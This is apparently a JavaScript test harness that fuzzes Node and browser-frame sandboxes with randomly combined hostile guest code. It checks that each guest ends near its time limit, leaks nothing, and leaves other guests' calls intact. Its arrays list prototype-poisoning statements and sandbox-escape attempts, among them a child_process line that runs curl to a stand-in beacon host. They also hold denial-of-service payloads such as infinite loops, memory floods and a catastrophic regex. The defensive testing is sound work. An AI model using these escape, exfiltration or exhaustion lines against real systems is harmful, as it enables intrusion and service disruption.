// Attacks on the sandbox in a thread and in a page: each must end soon after its limit, leak nothing, and not affect another guest's next
// call.
import { build } from 'esbuild'
import { fileURLToPath } from 'node:url'
import { importBundled } from '../bundle.mjs'

const LIMIT_MS = 400
/** A guest that is still running after a minute does not end at all, even on a busy machine. The times themselves are printed. */
const LATE_MS = 60_000

const statement = (code) => ({ kind: 'statement', code })
/** Changes of globals before the function is called. */
const POISON = [
  'Promise.prototype.then = function (a) { leak(a); return new Promise(() => {}) }',
  'Object.defineProperty(Promise.prototype, "constructor", { get() { leak(this); return Array } })',
  'Object.prototype.then = (r) => r("forged")',
  'Array.prototype[Symbol.iterator] = function* () { leak(this) }',
  'JSON.stringify = () => "forged"; JSON.parse = (t) => leak(t)',
  'Map.prototype.get = Map.prototype.set = function () { leak(this) }',
  'Function.prototype.call = Function.prototype.apply = function (...a) { leak(a) }',
  'String.prototype.slice = () => "x".repeat(1e6)',
  'Object.defineProperty(Object.prototype, "id", { set(v) { leak(v) }, get() { return 1 }, configurable: true })',
  'Error.prepareStackTrace = (e, frames) => { for (const f of frames) { leak(f.getThis()); leak(f.getFunction()) } return "" }',
  'globalThis.onmessage = (e) => leak(e.ports)',
  'Reflect.apply = Reflect.construct = (...a) => leak(a)',
  'Object.defineProperty(Object.prototype, "get", { value: () => leak(1), configurable: true, writable: true })',
  'Symbol.prototype[Symbol.toPrimitive] = () => leak(2)',
  'let x = 1 <!--`\n;import("BEACON/comment")\n//`',
  'var y = `\n--> `;',
]
/** Attempts to escape, one after another; each may throw. */
const OUT = [
  'fetch("BEACON/fetch")',
  'new WebSocket("WSBEACON/socket")',
  'importScripts("BEACON/script")',
  'navigator.sendBeacon("BEACON/beacon")',
  'new XMLHttpRequest().open("GET", "BEACON/xhr", false)',
  'new Image().src = "BEACON/image"',
  '(async () => {}).constructor("return import(\'BEACON/async\')")()',
  'new Function("return import(\'BEACON/function\')")()',
  '(0, eval)("import(\'BEACON/eval\')")',
  'import("BEACON/import")',
  'setTimeout("import(\'BEACON/timer\')")',
  'new Worker("data:text/javascript,fetch(\'BEACON/worker\')")',
  'self.postMessage({ id: 1, text: "forged" })',
  'postMessage("forged")',
  'new BroadcastChannel("orchard /").postMessage({ type: "owner" })',
  'this.constructor.constructor("return process")().exit(3)',
  'require("node:child_process").execSync("curl BEACON/process")',
  'globalThis.constructor.constructor("return fetch")()("BEACON/host")',
  'new EventSource("BEACON/events")',
  'new RTCPeerConnection({ iceServers: [{ urls: "stun:BEACONHOST" }] })',
  'reportError(new Error("BEACON"))',
  'dispatchEvent(new MessageEvent("message", { data: { id: 9 } }))',
]
/** How the attack ends. */
const END = [
  'return "done"',
  'for (;;);',
  'return new Promise(() => {})',
  'const all = []; for (;;) all.push(new Array(1e4).fill(all.length))',
  'const all = []; for (;;) all.push(new Uint8Array(4e6).fill(1))',
  'return "x".repeat(3e7)',
  'throw "x".repeat(3e7)',
  'const f = () => Promise.resolve().then(f); return f()',
  'return /^(a+)+$/.test("a".repeat(50) + "!")',
  'for (;;) { try { setTimeout(() => { throw new Error("flood") }) } catch {} try { Promise.reject(1) } catch {} }',
  'for (;;) { try { console.log("flood") } catch {} try { postMessage({ id: 1 }) } catch {} try { orchardPost({ id: 0 }) } catch {} }',
  'return { toJSON() { for (;;); } }',
  'throw { get message() { for (;;); } }',
  'return new Proxy({}, { get() { for (;;); }, ownKeys() { for (;;); } })',
]

function sourceOf(parts, { address }) {
  const of = (kind) => parts.filter((part) => part.kind === kind).map(({ code }) => code)
  const tries = of('out').map((code) => `try { const r = ${code}; if (r && r.catch) r.catch(() => {}) } catch {}`)
  return `const leaked = []\nfunction leak(v) { leaked[leaked.length] = v; return v }
${of('statement').join('\n')}
export default (input) => {\n${tries.join('\n')}\n${of('end').join('\n') || 'return "done"'}\n}`
    .replaceAll('WSBEACON', address.replace('http', 'ws'))
    .replaceAll('BEACONHOST', new URL(address).host)
    .replaceAll('BEACON', address)
}

const make = (random) => [
  ...random.some(POISON, 4).map(statement),
  ...random.some(OUT, 5).map((code) => ({ kind: 'out', code })),
  { kind: 'end', code: random.pick(END) },
]

function judge({ late, answer, next, took }, world, name) {
  const most = (note, value) => world.notes.set(note, Math.max(world.notes.get(note) ?? 0, Math.round(value)))
  most(`${name}: longest over the limit, ms`, late)
  most(`${name}: longest next answer, ms`, took)
  if (late > LATE_MS) return `it was gone ${Math.round(late)} ms after its limit`
  if (next !== '"innocent"') return `the next call of somebody else got ${next}`
  return answer === '"innocent"' ? 'it got the answer of somebody else' : undefined
}

/** Calls the attack and then the innocent guest; serialized into the page as well. */
const measure = async (run, source, limitMs) => {
  const text = (call) => run(call).then(JSON.stringify, (error) => `failed: ${error.message}`)
  let began = performance.now()
  const onReady = () => (began = performance.now())
  const answer = await text({ source, name: 'default', input: { secret: 1 }, limitMs, owner: 'attack', onReady })
  const ended = performance.now()
  const next = await text({
    source: 'export default () => "innocent"',
    name: 'default',
    input: null,
    owner: 'innocent',
    limitMs: 60_000,
  })
  return { answer, next, late: Math.max(0, ended - began - limitMs), took: performance.now() - ended }
}

let thread
/** Hostile code in the sandbox of Node. */
export const threadSandbox = {
  name: 'thread',
  make,
  async run(world, parts) {
    thread ??= (await importBundled('src/outside/sandbox/node.ts')).createNodeSandbox()
    const outcome = await measure((call) => thread.run(call), sourceOf(parts, world.stranger), LIMIT_MS)
    return Object.keys(Object.prototype).length > 0
      ? 'the prototype of our objects was changed'
      : judge(outcome, world, 'thread')
  },
}

async function openPage(world) {
  const { outputFiles } = await build({
    stdin: {
      contents: `import { createFrameSandbox } from './src/outside/sandbox/frame'
        const sandbox = createFrameSandbox(document)
        window.sandboxRun = (call) => sandbox.run(call)`,
      resolveDir: fileURLToPath(new URL('../..', import.meta.url)),
    },
    bundle: true,
    format: 'iife',
    write: false,
    define: { 'process.env.NODE_ENV': '"production"' },
  })
  const page = await (await world.browser.newContext()).newPage()
  await page.goto(world.url)
  await page.addScriptTag({ content: outputFiles[0].text })
  await page.evaluate(`window.measure = ${measure}`)
  return page
}

let page
/** Hostile code in the sandbox of a page. */
export const pageSandbox = {
  name: 'page',
  make,
  async run(world, parts) {
    page ??= await openPage(world)
    const outcome = await page.evaluate(
      ([source, limit]) => window.measure(window.sandboxRun, source, limit),
      [sourceOf(parts, world.stranger), LIMIT_MS],
    )
    const polluted = await page.evaluate(() => Object.keys(Object.prototype).length > 0)
    return polluted ? 'the prototype of the page was changed' : judge(outcome, world, 'page')
  },
}
